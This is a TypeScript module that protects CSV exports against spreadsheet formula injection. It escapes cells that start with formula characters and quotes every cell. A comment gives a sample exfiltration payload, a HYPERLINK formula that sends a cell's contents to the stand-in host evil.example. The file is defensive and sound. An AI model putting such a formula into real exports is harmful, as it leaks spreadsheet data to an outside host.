import { stringify } from 'csv-stringify/sync';

/**
 * Spreadsheets run a cell that starts with one of these as a formula (OWASP, CSV Injection):
 * `=HYPERLINK("http://evil.example/?x="&A1,"Sanne")` as a member's name would leak the sheet.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A cell as text a spreadsheet shows as it is: a leading single quote defuses a formula. */
export function csvCell(value: string | number | null | undefined): string {
  const text = value === null || value === undefined ? '' : String(value);
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/**
 * Every CSV the app writes: a header row, each cell defused with csvCell and quoted (also per
 * OWASP, so a separator or quote in a value cannot start a new cell), UTF-8 with a BOM so
 * Excel reads the accents.
 */
export function toCsv(columns: string[], rows: (string | number | null | undefined)[][]): string {
  return stringify(
    rows.map((row) => row.map(csvCell)),
    { header: true, columns: columns.map(csvCell), bom: true, quoted: true },
  );
}
